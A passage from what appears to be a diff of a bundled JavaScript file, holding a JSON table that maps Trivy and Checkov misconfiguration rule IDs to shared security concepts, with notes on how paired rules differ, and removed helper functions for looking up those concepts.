internet","trivy":["GCP-0071"],"checkov":["CKV_GCP_2"],"frameworks":["terraform"]},{"id":"gke-alias-ip","title":"GKE uses alias addresses","trivy":["GCP-0049"],"checkov":["CKV_GCP_23"],"frameworks":["terraform"]},{"id":"gke-labels","title":"GKE cluster has labels","trivy":["GCP-0051"],"checkov":["CKV_GCP_21"],"frameworks":["terraform"]},{"id":"gke-control-plane-not-open","title":"GKE control plane is not open to every address","trivy":["GCP-0053"],"checkov":["CKV_GCP_18"],"frameworks":["terraform"]},{"id":"gke-shielded-nodes","title":"GKE nodes are shielded","trivy":["GCP-0055"],"checkov":["CKV_GCP_71"],"frameworks":["terraform"]},{"id":"gke-node-auto-upgrade","title":"GKE node pool upgrades itself","trivy":["GCP-0058"],"checkov":["CKV_GCP_10"],"frameworks":["terraform"]},{"id":"gke-node-auto-repair","title":"GKE node pool repairs itself","trivy":["GCP-0063"],"checkov":["CKV_GCP_9"],"frameworks":["terraform"]},{"id":"gke-master-authorized-networks","title":"GKE has authorized networks","trivy":["GCP-0061"],"checkov":["CKV_GCP_20"],"frameworks":["terraform"]},{"id":"gke-no-legacy-abac","title":"GKE legacy authorization is off","trivy":["GCP-0062"],"checkov":["CKV_GCP_7"],"frameworks":["terraform"]},{"id":"gcp-kms-rotation","title":"KMS key rotates within 90 days","trivy":["GCP-0065"],"checkov":["CKV_GCP_43"],"frameworks":["terraform"]},{"id":"gcp-workload-identity-condition","title":"Workload identity provider has a condition","trivy":["GCP-0068"],"checkov":["CKV_GCP_118"],"frameworks":["terraform"]},{"id":"github-repo-private","title":"Repository is private","trivy":["GIT-0001"],"checkov":["CKV_GIT_1"],"frameworks":["terraform"]},{"id":"github-secret-encrypted","title":"Actions secret is not plain text","trivy":["GIT-0002"],"checkov":["CKV_GIT_4"],"frameworks":["terraform"]},{"id":"github-vulnerability-alerts","title":"Repository has vulnerability alerts","trivy":["GIT-0003"],"checkov":["CKV_GIT_3"],"frameworks":["terraform"]},{"id":"github-signed-commits","title":"Branch protection asks for signed commits","trivy":["GIT-0004"],"checkov":["CKV_GIT_6"],"frameworks":["terraform"]},{"id":"openstack-no-admin-password","title":"Instance has no plain password","trivy":["OPNSTK-0001"],"checkov":["CKV_OPENSTACK_4"],"frameworks":["terraform"]},{"id":"k8s-no-privilege-escalation","title":"Container cannot gain privileges","trivy":["KSV-0001"],"checkov":["CKV_K8S_20"],"frameworks":["kubernetes"]},{"id":"k8s-drop-all-capabilities","title":"Container drops all capabilities","trivy":["KSV-0003"],"checkov":["CKV_K8S_37"],"frameworks":["kubernetes"]},{"id":"k8s-no-sys-admin","title":"Container does not add SYS_ADMIN","trivy":["KSV-0005"],"checkov":["CKV_K8S_39"],"frameworks":["kubernetes"]},{"id":"k8s-no-docker-socket","title":"Docker socket is not mounted","trivy":["KSV-0006"],"checkov":["CKV_K8S_27"],"frameworks":["kubernetes"]},{"id":"k8s-no-host-ipc","title":"Pod does not share host IPC","trivy":["KSV-0008"],"checkov":["CKV_K8S_18"],"frameworks":["kubernetes"]},{"id":"k8s-no-host-network","title":"Pod does not use the host network","trivy":["KSV-0009"],"checkov":["CKV_K8S_19"],"frameworks":["kubernetes"]},{"id":"k8s-no-host-pid","title":"Pod does not share host processes","trivy":["KSV-0010"],"checkov":["CKV_K8S_17"],"frameworks":["kubernetes"]},{"id":"k8s-cpu-limit","title":"Container has a CPU limit","trivy":["KSV-0011"],"checkov":["CKV_K8S_11"],"frameworks":["kubernetes"]},{"id":"k8s-image-tag","title":"Image has a fixed tag","trivy":["KSV-0013"],"checkov":["CKV_K8S_14"],"frameworks":["kubernetes"]},{"id":"k8s-readonly-root","title":"Root file system is read-only","trivy":["KSV-0014"],"checkov":["CKV_K8S_22"],"frameworks":["kubernetes"]},{"id":"k8s-cpu-request","title":"Container has a CPU request","trivy":["KSV-0015"],"checkov":["CKV_K8S_10"],"frameworks":["kubernetes"]},{"id":"k8s-memory-request","title":"Container has a memory request","trivy":["KSV-0016"],"checkov":["CKV_K8S_12"],"frameworks":["kubernetes"]},{"id":"k8s-no-privileged","title":"Container is not privileged","trivy":["KSV-0017"],"checkov":["CKV_K8S_16"],"frameworks":["kubernetes"]},{"id":"k8s-memory-limit","title":"Container has a memory limit","trivy":["KSV-0018"],"checkov":["CKV_K8S_13"],"frameworks":["kubernetes"]},{"id":"k8s-high-uid","title":"Container runs with a high user id","trivy":["KSV-0020"],"checkov":["CKV_K8S_40"],"frameworks":["kubernetes"]},{"id":"k8s-no-added-capabilities","title":"Container adds no capabilities","trivy":["KSV-0022"],"checkov":["CKV_K8S_25"],"frameworks":["kubernetes"]},{"id":"k8s-no-host-port","title":"Container has no host port","trivy":["KSV-0024"],"checkov":["CKV_K8S_26"],"frameworks":["kubernetes"]},{"id":"k8s-seccomp-default","title":"Pod uses the runtime seccomp profile","trivy":["KSV-0030"],"checkov":["CKV_K8S_31"],"frameworks":["kubernetes"]},{"id":"k8s-no-tiller","title":"Tiller is not deployed","trivy":["KSV-0102"],"checkov":["CKV_K8S_34"],"frameworks":["kubernetes"]},{"id":"k8s-no-default-namespace","title":"Default namespace is not used","trivy":["KSV-0110"],"checkov":["CKV_K8S_21"],"frameworks":["kubernetes"]},{"id":"k8s-no-webhook-control","title":"Role cannot change admission webhooks","trivy":["KSV-0114"],"checkov":["CKV_K8S_155"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-anonymous-auth","title":"API server refuses anonymous requests","trivy":["KCV-0001"],"checkov":["CKV_K8S_68"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-token-auth-file","title":"API server has no token file","trivy":["KCV-0002"],"checkov":["CKV_K8S_70"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-kubelet-https","title":"API server talks HTTPS to kubelets","trivy":["KCV-0004"],"checkov":["CKV_K8S_71"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-kubelet-client-cert","title":"API server has a kubelet client certificate","trivy":["KCV-0005"],"checkov":["CKV_K8S_72"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-kubelet-ca","title":"API server checks kubelet certificates","trivy":["KCV-0006"],"checkov":["CKV_K8S_73"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-not-always-allow","title":"API server does not use AlwaysAllow","trivy":["KCV-0007"],"checkov":["CKV_K8S_74"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-node-authorizer","title":"API server uses the Node authorizer","trivy":["KCV-0008"],"checkov":["CKV_K8S_75"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-rbac","title":"API server uses RBAC","trivy":["KCV-0009"],"checkov":["CKV_K8S_77"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-no-always-admit","title":"API server does not use AlwaysAdmit","trivy":["KCV-0011"],"checkov":["CKV_K8S_79"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-secure-port","title":"API server secure port is on","trivy":["KCV-0017"],"checkov":["CKV_K8S_89"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-profiling","title":"API server profiling is off","trivy":["KCV-0018"],"checkov":["CKV_K8S_90"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-audit-log","title":"API server writes an audit log","trivy":["KCV-0019"],"checkov":["CKV_K8S_91"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-etcd-client-cert","title":"API server has an etcd client certificate","trivy":["KCV-0026"],"checkov":["CKV_K8S_99"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-tls-cert","title":"API server has a TLS certificate","trivy":["KCV-0027"],"checkov":["CKV_K8S_100"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-etcd-ca","title":"API server checks the etcd certificate","trivy":["KCV-0029"],"checkov":["CKV_K8S_102"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-encryption-config","title":"API server encrypts stored objects","trivy":["KCV-0030"],"checkov":["CKV_K8S_104"],"frameworks":["kubernetes"]},{"id":"k8s-controller-pod-gc","title":"Controller manager sets a pod GC threshold","trivy":["KCV-0033"],"checkov":["CKV_K8S_106"],"frameworks":["kubernetes"]},{"id":"k8s-controller-profiling","title":"Controller manager profiling is off","trivy":["KCV-0034"],"checkov":["CKV_K8S_107"],"frameworks":["kubernetes"]},{"id":"k8s-controller-sa-credentials","title":"Controller manager uses service account credentials","trivy":["KCV-0035"],"checkov":["CKV_K8S_108"],"frameworks":["kubernetes"]},{"id":"k8s-controller-bind-address","title":"Controller manager listens on localhost","trivy":["KCV-0039"],"checkov":["CKV_K8S_113"],"frameworks":["kubernetes"]},{"id":"k8s-scheduler-profiling","title":"Scheduler profiling is off","trivy":["KCV-0040"],"checkov":["CKV_K8S_114"],"frameworks":["kubernetes"]},{"id":"k8s-scheduler-bind-address","title":"Scheduler listens on localhost","trivy":["KCV-0041"],"checkov":["CKV_K8S_115"],"frameworks":["kubernetes"]},{"id":"k8s-etcd-cert","title":"etcd has a certificate","trivy":["KCV-0042"],"checkov":["CKV_K8S_116"],"frameworks":["kubernetes"]},{"id":"k8s-etcd-client-auth","title":"etcd checks client certificates","trivy":["KCV-0043"],"checkov":["CKV_K8S_117"],"frameworks":["kubernetes"]},{"id":"k8s-etcd-no-auto-tls","title":"etcd does not make its own certificate","trivy":["KCV-0044"],"checkov":["CKV_K8S_118"],"frameworks":["kubernetes"]},{"id":"k8s-etcd-peer-cert","title":"etcd peers have a certificate","trivy":["KCV-0045"],"checkov":["CKV_K8S_119"],"frameworks":["kubernetes"]},{"id":"docker-base-tag","title":"Base image has a fixed tag","trivy":["DS-0001"],"checkov":["CKV_DOCKER_7"],"frameworks":["dockerfile"]},{"id":"docker-no-ssh-port","title":"SSH port is not exposed","trivy":["DS-0004"],"checkov":["CKV_DOCKER_1"],"frameworks":["dockerfile"]},{"id":"docker-absolute-workdir","title":"WORKDIR is absolute","trivy":["DS-0009"],"checkov":["CKV_DOCKER_10"],"frameworks":["dockerfile"]},{"id":"docker-no-sudo","title":"RUN does not use sudo","trivy":["DS-0010"],"checkov":["CKV2_DOCKER_1"],"frameworks":["dockerfile"]},{"id":"docker-unique-alias","title":"Build stage names are unique","trivy":["DS-0012"],"checkov":["CKV_DOCKER_11"],"frameworks":["dockerfile"]},{"id":"docker-no-maintainer","title":"MAINTAINER is not used","trivy":["DS-0022"],"checkov":["CKV_DOCKER_6"],"frameworks":["dockerfile"]},{"id":"docker-healthcheck","title":"Image has a health check","trivy":["DS-0026"],"checkov":["CKV_DOCKER_2"],"frameworks":["dockerfile"]}],"K1":{"narrower":[{"trivy":"AWS-0006","checkov":"CKV_AWS_159","why":"workgroups only"},{"trivy":"AWS-0006","checkov":"CKV_AWS_77","why":"databases only"},{"trivy":"AWS-0007","checkov":"CKV_AWS_82","why":"Checkov passes an absent configuration block"},{"trivy":"AWS-0018","checkov":"CKV_AWS_78","why":"Checkov reads primary artifacts only"},{"trivy":"AWS-0033","checkov":"CKV_AWS_136","why":"Checkov wants KMS, Trivy also a customer key"},{"trivy":"AWS-0042","checkov":"CKV_AWS_84","why":"any log passes in Checkov, Trivy wants the audit log"},{"trivy":"AWS-0064","checkov":"CKV_AWS_185","why":"key only; Trivy wants KMS and a customer key"},{"trivy":"AWS-0064","checkov":"CKV_AWS_43","why":"KMS only; Trivy wants KMS and a customer key"},{"trivy":"AWS-0066","checkov":"CKV_AWS_50","why":"Checkov accepts PassThrough"},{"trivy":"AWS-0067","checkov":"CKV_AWS_364","why":"Checkov also accepts a source account"},{"trivy":"AWS-0077","checkov":"CKV_AWS_133","why":"Checkov fails at 0 days, Trivy below 2"},{"trivy":"AWS-0079","checkov":"CKV_AWS_327","why":"key only; Trivy wants encryption too"},{"trivy":"AWS-0079","checkov":"CKV_AWS_96","why":"encryption only; Trivy wants a customer key too"},{"trivy":"AWS-0084","checkov":"CKV_AWS_142","why":"key only; Trivy wants encryption too"},{"trivy":"AWS-0084","checkov":"CKV_AWS_64","why":"encryption only; Trivy wants a customer key too"},{"trivy":"AWS-0092","checkov":"CKV_AWS_20","why":"read ACLs; Trivy takes every public ACL"},{"trivy":"AWS-0092","checkov":"CKV_AWS_57","why":"write ACL; Trivy takes every public ACL"},{"trivy":"AWS-0097","checkov":"CKV_AWS_72","why":"Checkov misses sqs:*"},{"trivy":"AWS-0104","checkov":"CKV_AWS_382","why":"Checkov wants every port open, Trivy any port"},{"trivy":"AWS-0105","checkov":"CKV_AWS_231","why":"RDP only"},{"trivy":"AWS-0105","checkov":"CKV_AWS_232","why":"SSH only"},{"trivy":"AWS-0107","checkov":"CKV_AWS_24","why":"SSH only"},{"trivy":"AWS-0107","checkov":"CKV_AWS_25","why":"RDP only"},{"trivy":"AWS-0109","checkov":"CKV_AWS_155","why":"user volume only"},{"trivy":"AWS-0109","checkov":"CKV_AWS_156","why":"root volume only"},{"trivy":"AWS-0132","checkov":"CKV_AWS_145","why":"KMS is enough for Checkov, Trivy wants a customer key"},{"trivy":"AWS-0344","checkov":"CKV_AWS_386","why":"Checkov also wants a wildcard name"},{"trivy":"AZU-0010","checkov":"CKV_AZURE_36","why":"Checkov fails only when the default is deny and another bypass is listed"},{"trivy":"AZU-0016","checkov":"CKV_AZURE_110","why":"Trivy also wants retention days set"},{"trivy":"AZU-0019","checkov":"CKV_AZURE_31","why":"Trivy also fires when unset, on the server"},{"trivy":"AZU-0020","checkov":"CKV_AZURE_28","why":"MySQL only"},{"trivy":"AZU-0020","checkov":"CKV_AZURE_29","why":"PostgreSQL only"},{"trivy":"AZU-0020","checkov":"CKV_AZURE_47","why":"MariaDB only"},{"trivy":"AZU-0021","checkov":"CKV_AZURE_32","why":"Trivy also fires when unset, on the server"},{"trivy":"AZU-0022","checkov":"CKV_AZURE_113","why":"SQL Server only"},{"trivy":"AZU-0022","checkov":"CKV_AZURE_48","why":"MariaDB only"},{"trivy":"AZU-0022","checkov":"CKV_AZURE_53","why":"MySQL only"},{"trivy":"AZU-0022","checkov":"CKV_AZURE_68","why":"PostgreSQL only"},{"trivy":"AZU-0024","checkov":"CKV_AZURE_30","why":"Trivy also fires when unset, on the server"},{"trivy":"AZU-0026","checkov":"CKV_AZURE_147","why":"PostgreSQL only"},{"trivy":"AZU-0026","checkov":"CKV_AZURE_52","why":"SQL Server only"},{"trivy":"AZU-0026","checkov":"CKV_AZURE_54","why":"MySQL only"},{"trivy":"AZU-0029","checkov":"CKV_AZURE_11","why":"Checkov fails only for the whole address space"},{"trivy":"AZU-0031","checkov":"CKV_AZURE_37","why":"Checkov passes a disabled policy"},{"trivy":"AZU-0052","checkov":"CKV_AZURE_39","why":"Checkov fails only for a bare wildcard"},{"trivy":"AZU-0059","checkov":"CKV_AZURE_3","why":"HTTPS half"},{"trivy":"AZU-0059","checkov":"CKV_AZURE_44","why":"TLS half"},{"trivy":"AZU-0063","checkov":"CKV_AZURE_21","why":"alerts half"},{"trivy":"AZU-0063","checkov":"CKV_AZURE_22","why":"admins half"},{"trivy":"DIG-0006","checkov":"CKV_DIO_3","why":"bucket only, Trivy also objects"},{"trivy":"DS-0002","checkov":"CKV_DOCKER_3","why":"no USER at all"},{"trivy":"DS-0002","checkov":"CKV_DOCKER_8","why":"last USER is root"},{"trivy":"GCP-0007","checkov":"CKV_GCP_42","why":"projects only"},{"trivy":"GCP-0014","checkov":"CKV_GCP_56","why":"Trivy also fires when the flag is unset"},{"trivy":"GCP-0017","checkov":"CKV_GCP_11","why":"open networks half"},{"trivy":"GCP-0017","checkov":"CKV_GCP_60","why":"public address half"},{"trivy":"GCP-0019","checkov":"CKV_GCP_58","why":"Trivy also fires when the flag is unset"},{"trivy":"GCP-0023","checkov":"CKV_GCP_59","why":"Trivy also fires when the flag is unset"},{"trivy":"GCP-0033","checkov":"CKV_GCP_38","why":"Checkov also accepts a supplied key and reads the boot disk only"},{"trivy":"GCP-0034","checkov":"CKV_GCP_37","why":"Checkov also accepts a supplied key"},{"trivy":"GCP-0052","checkov":"CKV_GCP_8","why":"Checkov fails only for none"},{"trivy":"GCP-0054","checkov":"CKV_GCP_22","why":"Checkov reads node pools of old versions only"},{"trivy":"GCP-0059","checkov":"CKV_GCP_25","why":"Checkov wants any private block"},{"trivy":"GCP-0059","checkov":"CKV_GCP_64","why":"Checkov wants any private block"},{"trivy":"GCP-0060","checkov":"CKV_GCP_1","why":"Checkov fails only for none"},{"trivy":"KCV-0012","checkov":"CKV_K8S_80","why":"Trivy also fires when the flag is absent"},{"trivy":"KCV-0016","checkov":"CKV_K8S_85","why":"Trivy also fires when the flag is absent"},{"trivy":"KCV-0038","checkov":"CKV_K8S_112","why":"Trivy also fires when the flag is absent"},{"trivy":"KSV-0012","checkov":"CKV_K8S_23","why":"Checkov accepts a user id other than 0"},{"trivy":"KSV-0102","checkov":"CKV_K8S_45","why":"only when reachable in the cluster"},{"trivy":"KSV-0106","checkov":"CKV_K8S_37","why":"drop half"},{"trivy":"OPNSTK-0002","checkov":"CKV_OPENSTACK_5","why":"destination only"},{"trivy":"OPNSTK-0003","checkov":"CKV_OPENSTACK_2","why":"SSH only"},{"trivy":"OPNSTK-0003","checkov":"CKV_OPENSTACK_3","why":"RDP only"}],"wider":[{"trivy":"AWS-0004","checkov":"CKV_AWS_59","why":"Trivy exempts the misspelt method OPTION, Checkov OPTIONS, and orphan methods are skipped by Trivy"},{"trivy":"AWS-0008","checkov":"CKV_AWS_8","why":"Checkov also covers instances"},{"trivy":"AWS-0028","checkov":"CKV_AWS_79","why":"Checkov also covers launch templates and configurations"},{"trivy":"AWS-0029","checkov":"CKV_AWS_46","why":"Checkov also covers templates; secret detectors differ"},{"trivy":"AWS-0049","checkov":"CKV_AWS_23","why":"Checkov covers every security group kind and its rules"},{"trivy":"AWS-0056","checkov":"CKV_AWS_13","why":"Checkov wants 24 remembered passwords, Trivy 5"},{"trivy":"AWS-0073","checkov":"CKV_AWS_81","why":"Checkov checks traffic and storage"},{"trivy":"AWS-0083","checkov":"CKV_AWS_23","why":"Checkov covers every security group kind and its rules"},{"trivy":"AWS-0094","checkov":"CKV2_AWS_6","why":"Checkov also wants two of its flags on"},{"trivy":"AWS-0099","checkov":"CKV_AWS_23","why":"Checkov covers group and rules"},{"trivy":"AWS-0122","checkov":"CKV_AWS_8","why":"Trivy\'s older id, launch configurations only"},{"trivy":"AWS-0124","checkov":"CKV_AWS_23","why":"Checkov covers group and rules"},{"trivy":"AWS-0129","checkov":"CKV_AWS_46","why":"Checkov also covers instances; secret detectors differ"},{"trivy":"AWS-0130","checkov":"CKV_AWS_79","why":"Checkov also covers instances"},{"trivy":"AWS-0131","checkov":"CKV_AWS_8","why":"Checkov also covers launch configurations"},{"trivy":"AWS-0137","checkov":"CKV_AWS_349","why":"Checkov wants local disk encryption too"},{"trivy":"AWS-0137","checkov":"CKV_AWS_350","why":"Checkov wants EBS encryption too"},{"trivy":"AWS-0161","checkov":"CKV_AWS_20","why":"Checkov checks every bucket, Trivy the trail\'s bucket"},{"trivy":"AWS-0163","checkov":"CKV_AWS_18","why":"Checkov checks every bucket, Trivy the trail\'s bucket"},{"trivy":"AWS-0179","checkov":"CKV_AWS_81","why":"Checkov checks traffic and storage"},{"trivy":"AZU-0009","checkov":"CKV_AZURE_33","why":"Trivy asks only where a queue exists"},{"trivy":"AZU-0025","checkov":"CKV_AZURE_24","why":"Checkov also fails when there is no policy"},{"trivy":"AZU-0049","checkov":"CKV_AZURE_12","why":"Checkov also fails a disabled flow log; Trivy also fails 0 days"},{"trivy":"AZU-0057","checkov":"CKV_AZURE_33","why":"Checkov wants read, write and delete logged"},{"trivy":"AZU-0060","checkov":"CKV2_AZURE_1","why":"Trivy asks only where a container exists"},{"trivy":"DS-0005","checkov":"CKV_DOCKER_4","why":"Trivy exempts archives and addresses"},{"trivy":"GCP-0005","checkov":"CKV_GCP_44","why":"Checkov has a longer role list"},{"trivy":"GCP-0009","checkov":"CKV_GCP_45","why":"Checkov has a longer role list"},{"trivy":"GCP-0011","checkov":"CKV_GCP_49","why":"Checkov has a longer role list"},{"trivy":"GCP-0041","checkov":"CKV_GCP_39","why":"Checkov also checks integrity monitoring"},{"trivy":"GCP-0042","checkov":"CKV_GCP_33","why":"Checkov also fails a boolean true"},{"trivy":"GCP-0045","checkov":"CKV_GCP_39","why":"Checkov also checks vTPM"},{"trivy":"GCP-0046","checkov":"CKV_GCP_15","why":"Checkov has a longer list of public groups"},{"trivy":"GCP-0056","checkov":"CKV_GCP_12","why":"Checkov does not exempt Autopilot and Dataplane V2"},{"trivy":"KCV-0020","checkov":"CKV_K8S_92","why":"Checkov also checks the number"},{"trivy":"KCV-0021","checkov":"CKV_K8S_93","why":"Checkov also checks the number"},{"trivy":"KCV-0022","checkov":"CKV_K8S_94","why":"Checkov also checks the number"},{"trivy":"KCV-0024","checkov":"CKV_K8S_96","why":"Checkov also fires when the flag is absent"},{"trivy":"KSV-0004","checkov":"CKV_K8S_28","why":"Checkov wants NET_RAW or all dropped"},{"trivy":"KSV-0036","checkov":"CKV_K8S_38","why":"Checkov also fails when unset"},{"trivy":"KSV-0044","checkov":"CKV_K8S_49","why":"Checkov fails any wildcard"},{"trivy":"KSV-0045","checkov":"CKV_K8S_49","why":"Checkov fails any wildcard"},{"trivy":"KSV-0046","checkov":"CKV_K8S_49","why":"Checkov fails any wildcard"},{"trivy":"KSV-0104","checkov":"CKV_K8S_31","why":"Checkov also fails a local profile"}],"related":[{"trivy":"AWS-0007","checkov":"CKV_AWS_159","why":"workgroup encryption, not enforcement"},{"trivy":"AWS-0013","checkov":"CKV_AWS_174","why":"both minimum viewer TLS; Trivy wants 2021 or later, Checkov rejects the default certificate"},{"trivy":"AWS-0047","checkov":"CKV2_AWS_74","why":"policy lists differ in both directions"},{"trivy":"AWS-0047","checkov":"CKV_AWS_103","why":"policy lists differ in both directions"},{"trivy":"AWS-0054","checkov":"CKV2_AWS_20","why":"redirect, from the load balancer\'s side"},{"trivy":"AWS-0086","checkov":"CKV2_AWS_6","why":"Checkov\'s bucket-side check for the same block"},{"trivy":"AWS-0087","checkov":"CKV2_AWS_6","why":"Checkov\'s bucket-side check for the same block"},{"trivy":"AWS-0102","checkov":"CKV_AWS_352","why":"Checkov ingress without ports, Trivy any direction with protocol all"},{"trivy":"AWS-0107","checkov":"CKV_AWS_277","why":"all ports open"},{"trivy":"AWS-0110","checkov":"CKV_AWS_120","why":"SAM cache against stage cache; disagree on Trivy\'s good example"},{"trivy":"AWS-0137","checkov":"CKV_AWS_171","why":"Checkov wants SSE-KMS"},{"trivy":"AWS-0139","checkov":"CKV_AWS_349","why":"Trivy fires only on an empty key provider"},{"trivy":"AWS-0143","checkov":"CKV_AWS_40","why":"same control, but Trivy reports the user and Checkov the attachment, so never on one resource"},{"trivy":"AWS-0173","checkov":"CKV2_AWS_12","why":"read by title only, Trivy never fired in fixtures"},{"trivy":"AWS-0345","checkov":"CKV_AWS_288","why":"policy analysis, other actions too"},{"trivy":"AWS-0345","checkov":"CKV_AWS_289","why":"policy analysis, other actions too"},{"trivy":"AWS-0345","checkov":"CKV_AWS_290","why":"policy analysis, other actions too"},{"trivy":"AWS-0345","checkov":"CKV_AWS_355","why":"policy analysis, other actions too"},{"trivy":"AZU-0016","checkov":"CKV_AZURE_42","why":"soft delete and purge protection together"},{"trivy":"AZU-0030","checkov":"CKV_AZURE_39","why":"wildcard actions"},{"trivy":"AZU-0037","checkov":"CKV_AZURE_45","why":"secret detectors never agreed in fixtures"},{"trivy":"AZU-0039","checkov":"CKV_AZURE_149","why":"same attribute, other resource types; Checkov\'s second id"},{"trivy":"AZU-0039","checkov":"CKV_AZURE_178","why":"asks for an SSH key"},{"trivy":"AZU-0045","checkov":"CKV_AZURE_55","why":"one plan only"},{"trivy":"AZU-0047","checkov":"CKV_AZURE_160","why":"one port only"},{"trivy":"AZU-0056","checkov":"CKV2_AZURE_38","why":"Trivy fails 0 days, Checkov an absent block; they never fired together"},{"trivy":"AZU-0069","checkov":"CKV_AZURE_81","why":"version lists differ"},{"trivy":"AZU-0070","checkov":"CKV_AZURE_82","why":"version lists differ"},{"trivy":"AZU-0073","checkov":"CKV_AZURE_12","why":"Checkov\'s retention check fails a disabled flow log too"},{"trivy":"DS-0017","checkov":"CKV_DOCKER_5","why":"disagree on Trivy\'s own example"},{"trivy":"GCP-0007","checkov":"CKV_GCP_115","why":"basic roles on the organization"},{"trivy":"GCP-0007","checkov":"CKV_GCP_116","why":"basic roles on folders"},{"trivy":"GCP-0007","checkov":"CKV_GCP_117","why":"basic roles on projects"},{"trivy":"GCP-0018","checkov":"CKV_GCP_55","why":"accepted levels differ"},{"trivy":"GCP-0027","checkov":"CKV_GCP_2","why":"one port only"},{"trivy":"GCP-0027","checkov":"CKV_GCP_3","why":"one port only"},{"trivy":"GCP-0027","checkov":"CKV_GCP_88","why":"one port only"},{"trivy":"GCP-0039","checkov":"CKV_GCP_4","why":"TLS version against cipher profile"},{"trivy":"GCP-0057","checkov":"CKV_GCP_69","why":"metadata server mode"},{"trivy":"GCP-0064","checkov":"CKV_GCP_13","why":"Checkov also fails when unset; Trivy also takes basic auth"},{"trivy":"GCP-0070","checkov":"CKV_GCP_3","why":"Trivy exempts rules with target tags; Checkov misses rules without ports"},{"trivy":"GCP-0072","checkov":"CKV2_GCP_12","why":"Checkov needs protocol all"},{"trivy":"GCP-0079","checkov":"CKV2_GCP_5","why":"conditions overlap only in part"},{"trivy":"KCV-0010","checkov":"CKV_K8S_78","why":"Checkov reads AdmissionConfiguration, Trivy the flag"},{"trivy":"KCV-0013","checkov":"CKV_K8S_81","why":"never fired together"},{"trivy":"KCV-0014","checkov":"CKV_K8S_82","why":"Trivy reads the disable list, Checkov the enable list"},{"trivy":"KCV-0015","checkov":"CKV_K8S_83","why":"Trivy reads the disable list, Checkov the enable list"},{"trivy":"KCV-0025","checkov":"CKV_K8S_97","why":"Trivy fails when absent, Checkov only by file name"},{"trivy":"KCV-0036","checkov":"CKV_K8S_110","why":"Trivy fails when absent, Checkov only by file name"},{"trivy":"KCV-0037","checkov":"CKV_K8S_111","why":"Trivy fails when absent, Checkov only by file name"},{"trivy":"KCV-0046","checkov":"CKV_K8S_121","why":"Checkov reads args of a pod named etcd only"},{"trivy":"KCV-0079","checkov":"CKV_K8S_138","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0080","checkov":"CKV_K8S_139","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0081","checkov":"CKV_K8S_140","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0082","checkov":"CKV_K8S_141","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0083","checkov":"CKV_K8S_144","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0084","checkov":"CKV_K8S_145","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0085","checkov":"CKV_K8S_143","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0086","checkov":"CKV_K8S_146","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0087","checkov":"CKV_K8S_147","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0088","checkov":"CKV_K8S_148","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0089","checkov":"CKV_K8S_148","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0090","checkov":"CKV_K8S_149","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0092","checkov":"CKV_K8S_151","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KSV-0041","checkov":"CKV2_K8S_5","why":"Checkov needs a binding and reads only"},{"trivy":"KSV-0043","checkov":"CKV2_K8S_3","why":"read by title, never fired together"},{"trivy":"KSV-0047","checkov":"CKV2_K8S_2","why":"Checkov needs a binding and covers exec too"},{"trivy":"KSV-0050","checkov":"CKV_K8S_157","why":"bind verb against create verb"},{"trivy":"KSV-0053","checkov":"CKV2_K8S_2","why":"Checkov needs a binding and covers node proxy too"},{"trivy":"KSV-0106","checkov":"CKV_K8S_25","why":"added capabilities"},{"trivy":"KSV-0113","checkov":"CKV2_K8S_5","why":"Checkov needs a binding and reads only"},{"trivy":"KSV-0118","checkov":"CKV_K8S_29","why":"pod-level context; disagree on some fixtures"}]}}');
-;// CONCATENATED MODULE: ./build/js/knowledge/concepts.js
-
-/** Formats that are read with the rules of another: charts and kustomizations are Kubernetes. */
-const frameworks = { helm: 'kubernetes', kustomize: 'kubernetes' };
-const concepts_keyOf = (tool, framework, ruleId) => `${tool} ${framework} ${ruleId}`;
-const concepts_byRule = new Map(concepts_namespaceObject.W.flatMap(({ id, title, trivy, checkov, frameworks }) => frameworks.flatMap((framework) => [
-    ...trivy.map((rule) => [concepts_keyOf('trivy', framework, rule), { id, title }]),
-    ...checkov.map((rule) => [concepts_keyOf('checkov', framework, rule), { id, title }]),
-])));
-const conceptIds = new Set(concepts_namespaceObject.W.map(({ id }) => id));
-const relations = ['narrower', 'wider', 'related'].flatMap((kind) => concepts_namespaceObject.K1[kind].map((relation) => ({ kind, ...relation })));
-/**
- * The concept that a rule is proven to test in files of this format. The format matters: CKV_K8S_12 and CKV_K8S_13 mean the opposite
- * of each other in Kubernetes and in Terraform. `undefined` where nothing is proven. Source: docs/knowledge.md.
- */
-function conceptOf(tool, format, ruleId) {
-    const framework = Object.hasOwn(frameworks, format) ? (frameworks[format] ?? format) : format;
-    return concepts_byRule.get(concepts_keyOf(tool, framework, ruleId));
-}
-const isConcept = (id) => conceptIds.has(id);
-/** Rules of the other tool that overlap with this one without being equal, in the order of the table. */
-const relationsOf = (tool, ruleId) => relations.filter((relation) => relation[tool] === ruleId);
+/** Every check that the vendor gives a severity. */
+const ratedChecks = [...byCheck.keys()];
 
